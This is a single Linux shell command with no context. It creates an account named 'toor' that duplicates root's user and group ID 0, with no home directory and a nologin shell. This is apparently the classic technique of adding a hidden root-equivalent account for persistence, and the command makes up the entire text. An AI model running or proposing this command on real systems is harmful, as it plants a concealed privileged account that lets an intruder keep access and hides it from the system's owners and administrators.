useradd -o -u 0 -g 0 -M -s /usr/sbin/nologin toor
